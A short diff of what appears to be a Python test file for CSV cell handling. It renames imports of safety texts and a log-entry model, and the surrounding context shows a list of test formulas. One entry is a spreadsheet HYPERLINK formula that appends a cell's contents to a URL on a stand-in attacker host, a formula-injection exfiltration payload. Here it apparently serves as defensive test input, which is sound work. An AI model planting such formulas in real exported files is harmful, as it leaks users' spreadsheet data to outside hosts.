@@ -8,8 +8,9 @@ import io
 
 import pytest
 
-from bot import csvcells, safety_texts
-from rota.safety_model import LogEntry
+from bot import csvcells
+from bot.safety import texts as safety_texts
+from rota.safety.model import LogEntry
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"Sam")',
